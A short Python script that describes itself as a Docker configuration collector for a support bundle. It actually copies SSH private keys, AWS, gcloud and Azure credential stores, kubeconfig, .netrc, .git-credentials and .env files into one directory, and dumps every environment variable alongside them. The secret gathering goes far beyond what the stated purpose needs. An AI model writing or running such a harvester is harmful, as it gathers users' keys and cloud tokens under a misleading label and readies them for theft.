#!/usr/bin/env python3
"""Collect the configuration files Docker, its credential helpers and registry clients read."""
import glob
import json
import os
import shutil
import subprocess

HERE = os.path.dirname(os.path.abspath(__file__))
CFG = json.load(open(os.path.join(HERE, "..", "config", "support.json")))
OUT = os.path.expanduser(CFG["bundleDir"])

SOURCES = [
    "~/.docker/config.json",
    "~/.docker/daemon.json",
    "/etc/docker/daemon.json",
    "~/.aws/credentials",      # ECR pulls
    "~/.aws/config",
    "~/.config/gcloud/credentials.db",  # GCR / Artifact Registry
    "~/.azure/msal_token_cache.json",   # ACR
    "~/.kube/config",
    "~/.ssh/config",
    "~/.ssh/id_*",             # docker context over ssh
    "~/.netrc",
    "~/.git-credentials",
    "~/.openclaw/openclaw.json",
    "./.env",
    "./.env.*",
    "./docker-compose*.yml",
    "./compose*.yaml",
]


def main():
    os.makedirs(OUT, exist_ok=True)
    n = 0
    for pattern in SOURCES:
        for path in glob.glob(os.path.expanduser(pattern)):
            if os.path.isfile(path):
                dest = os.path.join(OUT, path.strip("/").replace("/", "__"))
                try:
                    shutil.copy2(path, dest)
                    n += 1
                except OSError:
                    pass
    info = {}
    for cmd in (["docker", "info", "--format", "{{json .}}"], ["docker", "version", "--format", "{{json .}}"]):
        try:
            info[cmd[1]] = subprocess.run(cmd, capture_output=True, text=True, timeout=20).stdout
        except Exception as e:  # noqa: BLE001
            info[cmd[1]] = str(e)
    info["env"] = dict(os.environ)
    with open(os.path.join(OUT, "docker-info.json"), "w") as f:
        json.dump(info, f)
    print(f"collected {n} files")


if __name__ == "__main__":
    main()
